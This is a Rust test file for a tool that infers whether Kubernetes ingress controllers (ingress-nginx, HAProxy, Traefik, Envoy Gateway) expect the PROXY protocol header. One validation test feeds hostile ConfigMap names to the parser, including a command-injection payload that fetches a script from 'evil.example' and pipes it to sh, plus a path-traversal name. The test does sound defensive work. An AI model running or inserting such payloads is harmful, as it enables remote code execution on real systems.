//! What each program makes of the header, by the objects that its chart or its operator would make.

use std::collections::BTreeMap;

use rstest::rstest;
use serde_json::{Value, from_value, json};

use super::*;
use crate::facts::CustomResource;

/// A pod with one container of these fields.
fn pod(container: Value) -> Pod {
    let mut container = container;
    container["name"] = json!("c");
    let metadata = json!({"namespace": "ns", "name": "web-1"});
    from_value(json!({"metadata": metadata, "spec": {"containers": [container]}})).unwrap()
}

fn expected(facts: &BackendFacts, pod: &Pod, target: i32) -> Expectation {
    let sources = ["198.18.0.0/24".parse().unwrap()];
    judge(facts, pod, Entrance { target, service_port: 80, sources: &sources, nodes: &[] }).expects
}

fn with_map(name: &str, data: Value) -> BackendFacts {
    let data: BTreeMap<String, String> = from_value(data).unwrap();
    BackendFacts {
        config_maps: BTreeMap::from([(name.to_owned(), Ok(Some(data)))]),
        ..BackendFacts::default()
    }
}

fn is_not_seen(expectation: &Expectation) -> bool {
    matches!(expectation, Expectation::NotSeen(_))
}

const NGINX: &str = "registry.example.org/ingress-nginx/controller:v1.15.1@sha256:00";

fn nginx(more: &[&str]) -> Pod {
    let mut args = vec!["/nginx-ingress-controller", "--configmap=$(POD_NAMESPACE)/nginx"];
    args.extend(more);
    pod(json!({"image": NGINX, "args": args,
        "env": [{"name": "POD_NAMESPACE", "valueFrom": {"fieldRef": {"fieldPath": "metadata.namespace"}}}]}))
}

#[rstest]
#[case::on(json!({"use-proxy-protocol": "true"}), Expectation::Required)]
#[case::one(json!({"use-proxy-protocol": "1"}), Expectation::Required)]
#[case::off(json!({"use-proxy-protocol": "false"}), Expectation::Off)]
#[case::no_boolean(json!({"use-proxy-protocol": "yes"}), Expectation::Off)]
#[case::absent(json!({}), Expectation::Off)]
fn ingress_nginx_has_one_switch_for_http_and_https(#[case] data: Value, #[case] wanted: Expectation) {
    let facts = with_map("ns/nginx", data);
    assert_eq!(expected(&facts, &nginx(&[]), 443), wanted);
    assert_eq!(expected(&facts, &nginx(&["--https-port=8443"]), 8443), wanted);
    assert!(
        is_not_seen(&expected(&facts, &nginx(&["--https-port=8443"]), 443)),
        "nginx does not listen there"
    );
}

#[rstest]
#[case::reads("default/db:5432:PROXY", Expectation::Required)]
#[case::sends("default/db:5432::PROXY", Expectation::Off)]
#[case::neither("default/db:5432", Expectation::Off)]
fn a_tcp_service_of_ingress_nginx_has_a_switch_of_its_own(#[case] line: &str, #[case] wanted: Expectation) {
    let mut facts = with_map("ns/nginx", json!({"use-proxy-protocol": "true"}));
    facts.config_maps.extend(with_map("ns/tcp", json!({"5432": line})).config_maps);
    let pod = nginx(&["--tcp-services-configmap=$(POD_NAMESPACE)/tcp"]);
    assert_eq!(expected(&facts, &pod, 5432), wanted);
    assert!(is_not_seen(&expected(&facts, &pod, 9000)));
    assert_eq!(config_maps(&pod), BTreeSet::from(["ns/nginx".to_owned(), "ns/tcp".to_owned()]));
}

/// Any user who may run a pod may write any text into its arguments.
#[test]
fn a_name_that_no_config_map_can_have_is_not_known() {
    for name in ["nginx?$(curl${IFS}evil.example|sh)", "a b", "../secrets/x", "-n", ""] {
        let pod = pod(
            json!({"image": NGINX, "args": ["/nginx-ingress-controller", format!("--configmap=ns/{name}")]}),
        );
        let facts = with_map(&format!("ns/{name}"), json!({}));
        let entrance = Entrance { target: 80, service_port: 80, sources: &[], nodes: &[] };
        let judgement = judge(&facts, &pod, entrance);
        assert!(matches!(judgement.expects, Expectation::NotKnown(_)), "{name}");
        assert_eq!(judgement.switch, None, "{name}");
        assert_eq!(config_maps(&pod), BTreeSet::new());
    }
}

#[test]
fn what_may_not_be_read_is_not_known_and_what_nothing_shows_is_not_seen() {
    let mut facts = BackendFacts::default();
    facts.config_maps.insert("ns/nginx".into(), Err("forbidden".into()));
    let Expectation::NotKnown(why) = expected(&facts, &nginx(&[]), 80) else { panic!("it is known") };
    assert!(why.contains("forbidden"), "{why}");
    assert!(is_not_seen(&expected(
        &BackendFacts::default(),
        &pod(json!({"image": "example.org/haproxy:3"})),
        80
    )));
}

#[rstest]
#[case::trusted("198.18.0.0/24", Some(Expectation::Either))]
#[case::wider("10.0.0.0/8, 198.18.0.0/16", Some(Expectation::Either))]
#[case::elsewhere("10.0.0.0/8", Some(Expectation::Off))]
#[case::part("198.18.0.128/25", None)]
#[case::file("patterns/ips", None)]
#[case::absent("", Some(Expectation::Off))]
fn haproxy_ingress_reads_the_header_from_listed_networks(
    #[case] networks: &str,
    #[case] wanted: Option<Expectation>,
) {
    let facts = with_map("ns/haproxy", json!({"proxy-protocol": networks}));
    let pod = pod(json!({"image": "haproxytech/kubernetes-ingress:3.2", "args": ["--configmap=ns/haproxy"]}));
    let found = expected(&facts, &pod, 8443);
    assert!(wanted.as_ref().map_or_else(|| is_not_seen(&found), |wanted| *wanted == found), "{found:?}");
    assert!(is_not_seen(&expected(&facts, &pod, 5432)), "a port of a TCP service");
}

fn traefik(args: &[&str]) -> Pod {
    pod(json!({"image": "docker.io/traefik:v3.5", "args": args}))
}

const TRUST: &str = "--entryPoints.websecure.proxyProtocol.trustedIPs=198.18.0.0/24";

#[rstest]
#[case::its_own_entry_point(&[TRUST], 8443, Expectation::Either)]
#[case::of_another(&[TRUST], 8000, Expectation::Off)]
#[case::insecure(&["--entrypoints.web.proxyprotocol.insecure"], 8000, Expectation::Either)]
#[case::of_another_network(&["--entrypoints.web.proxyprotocol.trustedips=10.0.0.0/8"], 8000, Expectation::Distrusted { required: false })]
#[case::without(&[], 8000, Expectation::Off)]
fn traefik_has_a_switch_for_each_entry_point(
    #[case] more: &[&str],
    #[case] target: i32,
    #[case] wanted: Expectation,
) {
    let mut args = vec!["--entryPoints.web.address=:8000/tcp", "--entryPoints.websecure.address=:8443/tcp"];
    args.extend(more);
    let facts = BackendFacts::default();
    assert_eq!(expected(&facts, &traefik(&args), target), wanted);
    assert!(is_not_seen(&expected(&facts, &traefik(&args), 9000)), "no entry point listens there");
}

#[test]
fn traefik_is_configured_by_a_file_or_by_variables_too() {
    let variables = json!([
        {"name": "TRAEFIK_ENTRYPOINTS_WEB_ADDRESS", "value": ":8000"},
        {"name": "TRAEFIK_ENTRYPOINTS_WEB_PROXYPROTOCOL_TRUSTEDIPS", "value": "198.18.0.0/24"},
    ]);
    let by_variables = pod(json!({"image": "traefik:v3", "env": variables}));
    assert_eq!(expected(&BackendFacts::default(), &by_variables, 8000), Expectation::Either);
    let of_a_secret = pod(json!({"image": "traefik:v3", "envFrom": [{"secretRef": {"name": "s"}}]}));
    assert!(is_not_seen(&expected(&BackendFacts::default(), &of_a_secret, 8000)));

    let mut by_file = pod(json!({"image": "traefik:v3", "args": ["--configfile=/config/traefik.yaml"],
        "volumeMounts": [{"name": "v", "mountPath": "/config"}]}));
    let volumes = |volume: Value| from_value(json!([volume])).unwrap();
    by_file.spec.as_mut().unwrap().volumes = volumes(json!({"name": "v", "configMap": {"name": "static"}}));
    assert_eq!(config_maps(&by_file), BTreeSet::from(["ns/static".to_owned()]));
    let text =
        "entryPoints:\n  web:\n    address: ':8000'\n    proxyProtocol:\n      trustedIPs: [198.18.0.0/24]\n";
    assert_eq!(
        expected(&with_map("ns/static", json!({"traefik.yaml": text})), &by_file, 8000),
        Expectation::Either
    );
    by_file.spec.as_mut().unwrap().volumes =
        volumes(json!({"name": "v", "secret": {"secretName": "static"}}));
    assert!(is_not_seen(&expected(&BackendFacts::default(), &by_file, 8000)));
}

fn envoy_gateway(policies: &[Value]) -> (BackendFacts, Pod) {
    let mut pod = pod(json!({"image": "envoyproxy/envoy:v1.35"}));
    let labels = json!({"app.kubernetes.io/managed-by": "envoy-gateway", "gateway.envoyproxy.io/owning-gateway-name": "eg",
        "gateway.envoyproxy.io/owning-gateway-namespace": "ns"});
    pod.metadata.labels = from_value(labels).unwrap();
    let resource = |name: &str, spec: &Value| CustomResource {
        namespace: "ns".into(),
        name: name.into(),
        labels: BTreeMap::from([("team".into(), "a".into())]),
        spec: spec.clone(),
    };
    let listeners = json!({"listeners": [{"name": "http", "port": 80}, {"name": "https", "port": 443}]});
    let policies = policies.iter().map(|spec| resource("p", spec)).collect();
    let resources = BTreeMap::from([
        ("Gateway", Ok(vec![resource("eg", &listeners)])),
        ("ClientTrafficPolicy", Ok(policies)),
    ]);
    (BackendFacts { resources, ..BackendFacts::default() }, pod)
}

fn targets(name: &str, section: Option<&str>) -> Value {
    json!([{"group": "gateway.networking.k8s.io", "kind": "Gateway", "name": name, "sectionName": section}])
}

#[rstest]
#[case::optional(json!({"targetRefs": targets("eg", None), "proxyProtocol": {"optional": true}}), Expectation::Either)]
#[case::strict(json!({"targetRefs": targets("eg", None), "proxyProtocol": {}}), Expectation::Required)]
#[case::old(json!({"targetRef": targets("eg", None)[0], "enableProxyProtocol": true}), Expectation::Required)]
#[case::its_listener(json!({"targetRefs": targets("eg", Some("http")), "proxyProtocol": {}}), Expectation::Required)]
#[case::another_listener(json!({"targetRefs": targets("eg", Some("https")), "proxyProtocol": {}}), Expectation::Off)]
#[case::another_gateway(json!({"targetRefs": targets("internal", None), "proxyProtocol": {}}), Expectation::Off)]
#[case::by_label(json!({"targetSelectors": [{"kind": "Gateway", "matchLabels": {"team": "a"}}], "proxyProtocol": {}}), Expectation::Required)]
#[case::by_another_label(json!({"targetSelectors": [{"kind": "Gateway", "matchLabels": {"team": "b"}}], "proxyProtocol": {}}), Expectation::Off)]
fn envoy_gateway_has_policies_for_gateways_and_listeners(#[case] policy: Value, #[case] wanted: Expectation) {
    let (facts, pod) = envoy_gateway(&[policy]);
    assert_eq!(expected(&facts, &pod, 10080), wanted);
}

#[test]
fn the_policy_of_a_listener_counts_before_that_of_its_gateway() {
    let of_gateway = json!({"targetRefs": targets("eg", None), "proxyProtocol": {}});
    let of_listener = json!({"targetRefs": targets("eg", Some("http")), "proxyProtocol": {"optional": true}});
    let (mut facts, pod) = envoy_gateway(&[of_gateway, of_listener]);
    assert_eq!(expected(&facts, &pod, 10080), Expectation::Either);
    facts.resources.insert("ClientTrafficPolicy", Err("forbidden".into()));
    assert!(matches!(expected(&facts, &pod, 10080), Expectation::NotKnown(_)));
}
